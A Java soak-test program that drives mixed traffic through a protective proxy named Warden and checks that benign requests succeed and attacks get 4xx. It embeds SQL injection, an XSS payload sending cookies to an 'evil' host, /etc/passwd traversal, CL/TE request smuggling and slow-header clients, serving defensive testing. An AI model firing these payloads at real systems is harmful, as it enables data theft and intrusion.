import java.io.IOException;
import java.io.InputStream;
import java.io.OutputStream;
import java.net.Socket;
import java.net.URI;
import java.net.http.HttpClient;
import java.net.http.HttpRequest;
import java.net.http.HttpResponse;
import java.net.http.WebSocket;
import java.nio.charset.StandardCharsets;
import java.time.Duration;
import java.util.Map;
import java.util.Random;
import java.util.TreeMap;
import java.util.concurrent.CompletionStage;
import java.util.concurrent.ConcurrentHashMap;
import java.util.concurrent.Executors;
import java.util.concurrent.ScheduledExecutorService;
import java.util.concurrent.Semaphore;
import java.util.concurrent.TimeUnit;
import java.util.concurrent.atomic.LongAdder;

/**
 * The traffic of {@code scripts/soak.sh}: a steady mix through Warden in front of the demo backend,
 * JDK only (run as a single-file program). Per second, at {@code RATE} requests: benign API calls,
 * attacks (SQL injection, XSS, traversal, a smuggling attempt on a raw socket), uploads; alongside,
 * a fixed number of SSE streams and WebSockets kept open and renewed, and slow clients that hold a
 * half-sent request head until Warden lets them go. Prints one line of counts a minute and, at the
 * end, the totals; an "unexpected" outcome is a benign request not answered 200, an attack not
 * refused with 4xx, or any transport error.
 *
 * <pre>java scripts/soak/SoakTraffic.java HOST:PORT RATE SECONDS</pre>
 */
public final class SoakTraffic {

    private static final int SSE_STREAMS = 4;
    private static final int WEBSOCKETS = 6;
    private static final int SLOW_CLIENTS = 8;

    private final String hostPort;
    private final URI base;
    private final HttpClient http = HttpClient.newBuilder().version(HttpClient.Version.HTTP_1_1)
            .connectTimeout(Duration.ofSeconds(5)).build();
    private final ScheduledExecutorService timer = Executors.newScheduledThreadPool(2);
    private final Semaphore inFlight = new Semaphore(256);
    private final Map<String, LongAdder> counts = new ConcurrentHashMap<>();
    private final Random random = new Random(13);
    private final byte[] upload = new byte[100 * 1024];
    private volatile boolean running = true;

    private SoakTraffic(String hostPort) {
        this.hostPort = hostPort;
        this.base = URI.create("http://" + hostPort);
        new Random(7).nextBytes(upload);
    }

    public static void main(String[] args) throws Exception {
        SoakTraffic soak = new SoakTraffic(args[0]);
        soak.run(Integer.parseInt(args[1]), Long.parseLong(args[2]));
    }

    private void run(int rate, long seconds) throws Exception {
        for (int i = 0; i < SSE_STREAMS; i++) {
            sse();
        }
        for (int i = 0; i < WEBSOCKETS; i++) {
            websocket();
        }
        for (int i = 0; i < SLOW_CLIENTS; i++) {
            daemon(this::slowClient);
        }
        daemon(this::smuggler);
        long periodMicros = 1_000_000L / rate;
        timer.scheduleAtFixedRate(this::oneRequest, 0, periodMicros, TimeUnit.MICROSECONDS);
        long start = System.nanoTime();
        for (long minute = 1; ; minute++) {
            long next = start + TimeUnit.SECONDS.toNanos(Math.min(minute * 60, seconds));
            Thread.sleep(Math.max(0, (next - System.nanoTime()) / 1_000_000));
            System.out.println("traffic t=" + (System.nanoTime() - start) / 1_000_000_000L + "s " + snapshot());
            if (minute * 60 >= seconds) {
                break;
            }
        }
        running = false;
        timer.shutdownNow();
        System.out.println("traffic total " + snapshot());
        System.exit(0);
    }

    private static void daemon(Runnable task) {
        Thread thread = new Thread(task);
        thread.setDaemon(true);
        thread.start();
    }

    private String snapshot() {
        Map<String, Long> sorted = new TreeMap<>();
        counts.forEach((k, v) -> sorted.put(k, v.sum()));
        return sorted.toString();
    }

    private void count(String what) {
        counts.computeIfAbsent(what, k -> new LongAdder()).increment();
    }

    private void oneRequest() {
        if (!inFlight.tryAcquire()) {
            count("skipped_backlog");
            return;
        }
        int pick = random.nextInt(100);
        HttpRequest.Builder b;
        String kind;
        if (pick < 25) {
            kind = "benign";
            b = get("/api/health");
        } else if (pick < 45) {
            kind = "benign";
            b = get("/api/properties/search?q=loft+near+park&max=" + random.nextInt(1_000_000));
        } else if (pick < 65) {
            kind = "benign";
            b = post("/api/chat", "application/json", "{\"message\":\"Any two-bedroom homes near Union Square?\"}");
        } else if (pick < 72) {
            kind = "benign";
            b = request("/api/commission").POST(HttpRequest.BodyPublishers.ofString(
                    "{\"sale_price\":485000,\"commission_rate\":0.03}")).header("Content-Type", "application/json");
        } else if (pick < 78) {
            kind = "upload";
            b = request("/api/upload").header("Content-Type", "application/octet-stream")
                    .POST(HttpRequest.BodyPublishers.ofByteArray(upload));
        } else if (pick < 85) {
            kind = "attack";
            b = get("/api/properties/search?q=1%27%20OR%20%271%27%3D%271%27%20UNION%20SELECT%20password%20FROM%20users--");
        } else if (pick < 92) {
            kind = "attack";
            b = post("/api/chat", "application/json", "{\"message\":\"<script>document.location='//evil/'+document.cookie</script>\"}");
        } else {
            kind = "attack";
            b = get("/api/files?name=..%2F..%2F..%2Fetc%2Fpasswd");
        }
        http.sendAsync(b.build(), HttpResponse.BodyHandlers.discarding()).whenComplete((response, failure) -> {
            inFlight.release();
            if (failure != null) {
                count(kind + "_error");
                count("unexpected");
                return;
            }
            int status = response.statusCode();
            count(kind + "_" + status);
            boolean expected = switch (kind) {
                case "attack" -> status >= 400 && status < 500;
                default -> status == 200;
            };
            if (!expected) {
                count("unexpected");
            }
        });
    }

    private HttpRequest.Builder request(String path) {
        return HttpRequest.newBuilder(base.resolve(path)).timeout(Duration.ofSeconds(30));
    }

    private HttpRequest.Builder get(String path) {
        return request(path).GET();
    }

    private HttpRequest.Builder post(String path, String type, String body) {
        return request(path).header("Content-Type", type).POST(HttpRequest.BodyPublishers.ofString(body));
    }

    /** One SSE stream of ten events (about 3 s); when it ends, the next starts. */
    private void sse() {
        if (!running) {
            return;
        }
        http.sendAsync(get("/api/chat/stream?n=10").header("Accept", "text/event-stream").build(),
                HttpResponse.BodyHandlers.ofString()).whenComplete((response, failure) -> {
                    boolean ok = failure == null && response.statusCode() == 200
                            && response.body().contains("event: done");
                    count(ok ? "sse_ok" : "sse_error");
                    if (!ok) {
                        count("unexpected");
                    }
                    sse();
                });
    }

    /** A WebSocket that sends a message every 2 s and is replaced after 30 s. */
    private void websocket() {
        if (!running) {
            return;
        }
        URI uri = URI.create("ws://" + hostPort + "/ws/chat");
        http.newWebSocketBuilder().connectTimeout(Duration.ofSeconds(5)).buildAsync(uri, new WebSocket.Listener() {
            @Override
            public CompletionStage<?> onText(WebSocket ws, CharSequence data, boolean last) {
                count("ws_echo");
                ws.request(1);
                return null;
            }

            @Override
            public void onError(WebSocket ws, Throwable error) {
                count("ws_error");
                count("unexpected");
            }
        }).whenComplete((ws, failure) -> {
            if (failure != null) {
                count("ws_connect_error");
                count("unexpected");
                timer.schedule(this::websocket, 1, TimeUnit.SECONDS);
                return;
            }
            count("ws_open");
            for (int i = 1; i <= 14; i++) {
                timer.schedule(() -> ws.sendText("{\"message\":\"still there?\"}", true), 2L * i, TimeUnit.SECONDS);
            }
            timer.schedule(() -> {
                ws.sendClose(WebSocket.NORMAL_CLOSURE, "bye").whenComplete((w, f) -> count("ws_closed"));
                websocket();
            }, 30, TimeUnit.SECONDS);
        });
    }

    /** Sends half a request head, one byte a second, until Warden's header deadline closes it; again. */
    private void slowClient() {
        byte[] head = ("GET /api/health HTTP/1.1\r\nHost: " + hostPort + "\r\nX-Slow: ").getBytes(StandardCharsets.US_ASCII);
        while (running) {
            try (Socket socket = new Socket("127.0.0.1", port())) {
                OutputStream out = socket.getOutputStream();
                out.write(head);
                out.flush();
                while (running) {
                    out.write('a');
                    out.flush();
                    Thread.sleep(1000);
                }
            } catch (IOException closedByWarden) {
                count("slow_client_cut");
            } catch (InterruptedException e) {
                return;
            }
        }
    }

    /** A request-smuggling attempt (Content-Length with Transfer-Encoding) every second: must be 400. */
    private void smuggler() {
        byte[] attempt = ("POST /api/chat HTTP/1.1\r\nHost: x\r\nContent-Length: 4\r\nTransfer-Encoding: chunked\r\n\r\n"
                + "0\r\n\r\nGET /admin HTTP/1.1\r\nHost: x\r\n\r\n").getBytes(StandardCharsets.US_ASCII);
        while (running) {
            try (Socket socket = new Socket("127.0.0.1", port())) {
                socket.setSoTimeout(5000);
                socket.getOutputStream().write(attempt);
                InputStream in = socket.getInputStream();
                byte[] status = in.readNBytes(12);
                boolean refused = new String(status, StandardCharsets.US_ASCII).equals("HTTP/1.1 400");
                count(refused ? "smuggle_400" : "smuggle_other");
                if (!refused) {
                    count("unexpected");
                }
                Thread.sleep(1000);
            } catch (IOException e) {
                count("smuggle_error");
                count("unexpected");
            } catch (InterruptedException e) {
                return;
            }
        }
    }

    private int port() {
        return Integer.parseInt(hostPort.substring(hostPort.lastIndexOf(':') + 1));
    }
}
